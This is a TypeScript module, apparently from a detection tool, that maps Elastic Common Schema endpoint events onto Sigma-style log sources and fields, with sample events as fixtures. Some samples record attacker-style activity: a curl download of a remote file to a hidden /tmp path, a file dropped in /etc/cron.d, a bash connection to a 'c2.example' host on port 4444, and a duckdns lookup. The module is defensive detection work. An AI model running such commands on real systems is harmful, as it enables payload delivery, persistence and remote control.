import type { Fields, Value } from '../../event.js';
import { mappedFormat } from './shared/mapped.js';
import type { Kind, Kinds } from './shared/mapping/index.js';
import { at, isFields, text } from './shared/values.js';

const MAX_ARGUMENTS = 1000;
const SYSTEMS: Record<string, string> = { windows: 'windows', linux: 'linux', macos: 'macos', darwin: 'macos' };

function systemOf(record: Fields): string | undefined {
  const os = at(record, 'host', 'os');
  for (const name of ['type', 'platform', 'family', 'kernel']) {
    const value = text(at(os, name))?.slice(0, 16).toLowerCase();
    if (value !== undefined && Object.hasOwn(SYSTEMS, value)) return SYSTEMS[value];
  }
  // Auditbeat names the distribution (`ubuntu`, `rhel`).
  return text(at(record, 'event', 'module')) === 'auditd' || text(at(os, 'family')) !== undefined ? 'linux' : undefined;
}

const list = (value: Value): readonly string[] =>
  (Array.isArray(value) ? value.slice(0, 20) : [value]).filter((item) => typeof item === 'string');

const STARTS = new Set(['exec', 'executed', 'process_started', 'start', 'fork_exec']);

/** What happened, as the kinds of the taxonomy are called: `process`, `file` … */
function happening(record: Fields): string {
  const categories = list(at(record, 'event', 'category'));
  const types = list(at(record, 'event', 'type'));
  const action = text(at(record, 'event', 'action')) ?? '';
  if (categories.includes('malware') || (action === 'malicious_file' && isFields(record.file))) return 'malware';
  if (categories.includes('process')) return types.includes('start') || STARTS.has(action) ? 'process' : '';
  if (isFields(record.dns)) return 'dns';
  if (categories.includes('file'))
    return types.includes('deletion') ? 'delete' : types.includes('access') ? '' : 'file';
  if (categories.includes('network')) return types.includes('end') ? '' : 'network';
  if (categories.includes('registry')) return types.includes('deletion') || types.includes('access') ? '' : 'registry';
  return categories.includes('library') ? 'library' : '';
}

function kindOf(record: Fields, kinds: Kinds): Kind | undefined {
  if (!isFields(record.event) || !isFields(record.host) || record.event.category === undefined) return undefined;
  const system = systemOf(record);
  const what = happening(record);
  if (system === undefined) return undefined;
  if (what === 'malware') return kinds.named('malware');
  const name = what === '' ? system : `${system}-${what}`;
  return kinds.list.find((kind) => kind.name === name) ?? kinds.named(system);
}

export default mappedFormat({
  name: 'endpoint',
  summary: 'events of machines in Elastic Common Schema: Elastic Defend, Auditbeat',
  keys: ['event'],
  priority: 50,
  kindOf,
  complete(fields) {
    const args = at(fields, 'process', 'args');
    const command =
      text(at(fields, 'process', 'command_line')) ??
      (Array.isArray(args)
        ? args
            .slice(0, MAX_ARGUMENTS)
            .map((part) => text(part) ?? '')
            .join(' ')
        : undefined);
    if (command !== undefined) fields.CommandLine = command;
    const hash = at(fields, 'process', 'hash');
    if (!isFields(hash)) return;
    const named = ['md5', 'sha1', 'sha256'].flatMap((name) => {
      const value = text(hash[name]);
      return value !== undefined && value.length <= 128 ? [`${name.toUpperCase()}=${value.toUpperCase()}`] : [];
    });
    if (named.length > 0) fields.Hashes = named.join(',');
  },
  samples: [
    {
      line: '{"@timestamp":"2026-03-04T08:00:00.123Z","agent":{"type":"endpoint"},"data_stream":{"dataset":"endpoint.events.process"},"event":{"action":"exec","category":["process"],"type":["start"],"module":"endpoint"},"host":{"name":"build-7","os":{"type":"linux","name":"Linux"}},"process":{"executable":"/usr/bin/curl","name":"curl","pid":811,"args":["curl","-o","/tmp/.x","http://198.51.100.9/x"],"command_line":"curl -o /tmp/.x http://198.51.100.9/x","entity_id":"e1","parent":{"executable":"/bin/bash","name":"bash","pid":700}},"user":{"name":"ci"}}',
      logsource: { product: 'linux', category: 'process_creation' },
      ecs: {
        '@timestamp': '2026-03-04T08:00:00.123Z',
        'host.name': 'build-7',
        'user.name': 'ci',
        'process.executable': '/usr/bin/curl',
        'process.parent.executable': '/bin/bash',
      },
      fields: {
        Image: '/usr/bin/curl',
        CommandLine: 'curl -o /tmp/.x http://198.51.100.9/x',
        ParentImage: '/bin/bash',
      },
    },
    {
      line: '{"@timestamp":"2026-03-04T08:00:01Z","event":{"action":"executed","category":["process"],"type":["start"],"module":"auditd"},"host":{"hostname":"db-01","os":{"family":"debian","platform":"ubuntu"}},"process":{"executable":"/usr/bin/id","args":["id","-a"],"pid":900},"user":{"name":"postgres"}}',
      logsource: { product: 'linux', category: 'process_creation' },
      ecs: { 'host.name': 'db-01', 'process.command_line': 'id -a', 'process.name': 'id' },
    },
    {
      line: '{"@timestamp":"2026-03-04T08:00:02Z","event":{"action":"creation","category":["file"],"type":["creation"]},"host":{"name":"build-7","os":{"type":"linux"}},"process":{"executable":"/usr/bin/tee","pid":812},"file":{"path":"/etc/cron.d/x"}}',
      logsource: { product: 'linux', category: 'file_event' },
      ecs: { 'file.path': '/etc/cron.d/x' },
      fields: { TargetFilename: '/etc/cron.d/x', Image: '/usr/bin/tee' },
    },
    {
      line: '{"@timestamp":"2026-03-04T08:00:03Z","event":{"action":"connection_attempted","category":["network"],"type":["start"]},"host":{"name":"build-7","os":{"type":"linux"}},"process":{"executable":"/bin/bash","pid":813},"destination":{"ip":"203.0.113.9","port":4444,"domain":"c2.example"},"source":{"ip":"10.20.0.7","port":50122},"network":{"transport":"tcp"}}',
      logsource: { product: 'linux', category: 'network_connection' },
      ecs: { 'destination.ip': '203.0.113.9', 'destination.port': 4444 },
      fields: { DestinationIp: '203.0.113.9', Image: '/bin/bash' },
    },
    {
      line: '{"@timestamp":"2026-03-04T08:00:04Z","event":{"action":"start","category":["process"],"type":["start"]},"host":{"name":"mac-3","os":{"type":"macos"}},"process":{"executable":"/usr/bin/osascript","command_line":"osascript -e x","pid":1,"hash":{"sha256":"ab"}},"user":{"name":"marta"}}',
      logsource: { product: 'macos', category: 'process_creation' },
      ecs: { 'host.name': 'mac-3', 'process.hash.sha256': 'ab' },
      fields: { Hashes: 'SHA256=AB' },
    },
    {
      line: '{"@timestamp":"2026-03-04T08:00:05Z","event":{"action":"lookup_requested","category":["network"],"type":["protocol","info"]},"host":{"name":"ws-14","os":{"type":"windows"}},"process":{"executable":"C:\\\\Windows\\\\x.exe","pid":4},"dns":{"question":{"name":"a1.duckdns.org","type":"A"}}}',
      logsource: { product: 'windows', category: 'dns_query' },
      ecs: { 'dns.question.name': 'a1.duckdns.org', 'process.name': 'x.exe' },
      fields: { QueryName: 'a1.duckdns.org' },
    },
    {
      line: '{"@timestamp":"2026-03-04T08:00:06Z","event":{"category":["host"],"type":["info"],"action":"boot"},"host":{"name":"db-02","os":{"type":"linux"}}}',
      logsource: { product: 'linux' },
      ecs: { 'host.name': 'db-02', 'event.action': 'boot' },
    },
  ],
});
